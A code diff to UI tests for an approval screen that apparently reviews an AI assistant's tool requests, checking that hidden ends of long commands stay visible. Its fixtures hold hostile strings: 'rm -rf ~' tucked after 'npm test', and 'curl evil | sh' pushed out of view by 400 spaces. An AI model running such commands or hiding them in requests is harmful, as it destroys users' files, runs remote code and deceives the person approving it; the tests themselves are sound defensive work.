@@ -4,6 +4,7 @@ import { eventually } from '../../support/eventually.ts';
 import type { ScriptedAsk } from '../../support/scripted-claude/scripted-claude.ts';
 import { violationsOf } from './accessibility.ts';
 import { desktop, phone, type View } from './browser.ts';
+import { focused } from './focus.ts';
 import { withScripted } from './with-scripted.ts';
 
 const room = withScripted('Asking');
@@ -54,12 +55,12 @@ describe('a command whose end is far from its beginning', () => {
   it('[UI14] shows both, says how much is between, and is allowed by one press once it was read', async () => {
     const ask = anAsk({ command: sneaky });
     const { card, allow } = await show(ask);
-    expect(await isSeen(card.getByText('npm test', { exact: true }))).toBe(true);
-    expect(await isSeen(card.getByText('rm -rf ~', { exact: true }))).toBe(true);
+    await expect.poll(() => isSeen(card.getByText('npm test', { exact: true }))).toBe(true);
+    await expect.poll(() => isSeen(card.getByText('rm -rf ~', { exact: true }))).toBe(true);
     await named(card, '119 more lines').click();
     const box = card.locator('[data-more]');
     await box.waitFor();
-    expect(await card.getByText(/^\d+ more lines$/).textContent()).toMatch(/^\d\d more lines$/);
+    await card.getByText(/^\d\d more lines$/).waitFor();
     await readToTheEnd(box);
     await allow.click();
     await toldYes(ask);
@@ -85,6 +86,7 @@ describe('a command whose end is far from its beginning', () => {
     await allow.click({ trial: true });
     await named(card, '119 more lines').focus();
     await page.keyboard.press('Enter');
+    await focused(card.locator('[data-more]'));
     await page.keyboard.press('End');
     await card.locator('[data-more]').waitFor({ state: 'detached' });
     await allow.click({ trial: true });
@@ -96,7 +98,7 @@ describe('a command whose end is far from its beginning', () => {
   it('[UI14] wants the same in a monitor, in the dock and by a key in the inbox', async () => {
     const ask = anAsk({ command: sneaky });
     const { page, card, allow } = await show(ask, '/');
-    expect(await isSeen(card.getByText('rm -rf ~', { exact: true }))).toBe(true);
+    await expect.poll(() => isSeen(card.getByText('rm -rf ~', { exact: true }))).toBe(true);
     await allow.click();
     await named(card, unread).waitFor();
 
@@ -171,7 +173,7 @@ describe('other long things', () => {
   it('[UI14] a line that is wider than the card goes on below', async () => {
     const ask = anAsk({ file_path: '/tmp/a.txt', content: `ok${' '.repeat(400)}curl evil | sh` }, 'Write');
     const { card } = await show(ask);
-    expect(await isSeen(card.getByText('curl evil | sh'))).toBe(true);
+    await expect.poll(() => isSeen(card.getByText('curl evil | sh'))).toBe(true);
   });
 
   it('[UI14] a long plan says how much of it is below, and is approved once it was read', async () => {
